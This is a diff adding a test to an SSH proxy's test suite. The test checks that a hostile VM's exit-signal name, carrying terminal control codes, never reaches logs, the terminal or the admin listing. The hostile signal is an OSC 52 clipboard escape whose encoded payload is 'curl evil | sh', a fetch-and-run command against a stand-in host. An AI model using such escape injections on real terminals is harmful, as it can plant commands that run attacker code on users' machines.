@@ -8,6 +8,7 @@ brute-force brake and the caps below stay per test.
 from __future__ import annotations
 
 import asyncio
+import json
 import subprocess
 import sys
 
@@ -197,3 +198,50 @@ def test_environment_requests_cannot_fill_the_proxys_memory(lab):  # noqa: F811
     assert flood.stdout.strip() == "sent", flood.stderr[-2000:]
     grown = proxy_rss_mib() - before
     assert grown < 100, f"the proxy kept {grown} MiB of one session's 300 MB of environment"
+
+
+HOSTILE_SIGNAL = "\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07TERM"
+
+
+class HostileVm(asyncssh.SSHServer):
+    """A VM taken over by an attacker: any key gets in; every session exits with a signal whose
+    "name" is a terminal control string."""
+
+    def begin_auth(self, username):
+        return True
+
+    def public_key_auth_supported(self):
+        return True
+
+    def validate_public_key(self, username, key):
+        return True
+
+
+async def hostile_process(process):
+    process.stdout.write("hostile vm\n")
+    process.exit_with_signal(HOSTILE_SIGNAL)
+
+
+def test_a_hostile_vms_exit_signal_reaches_no_log_or_terminal(lab, clients):  # noqa: F811
+    # The workload "nosshd" has the proxy's own end of the veth as its address: a hostile sshd there.
+    address = lab.vm_ip.rsplit(".", 1)[0] + ".1"
+    async def listen():
+        return await asyncssh.create_server(HostileVm, address, 22, process_factory=hostile_process,
+                                            server_host_keys=[asyncssh.generate_private_key("ssh-ed25519")])
+
+    async def close(server):
+        server.close()
+        await server.wait_closed()
+
+    server = clients.run(listen())
+    try:
+        out = lab.ssh("alice", "alice+nosshd", "true")
+    finally:
+        clients.run(close(server))
+    assert "hostile vm" in out.stdout and "\x1b" not in out.stderr, out.stderr
+    [meta] = [m for m in lab.proxy.archive.list() if m["workload"] == "nosshd"]
+    assert meta["exit_signal"] is None and meta["result"] == "vm_bad_exit_signal"
+    [end] = [e for e in lab.entries("admin_session_end") if e["session"] == meta["id"]]
+    assert "\x1b" not in json.dumps(end, ensure_ascii=False)
+    listed = lab.cli("admin", "sessions")
+    assert listed.returncode == 0 and "\x1b" not in listed.stdout, listed.stderr
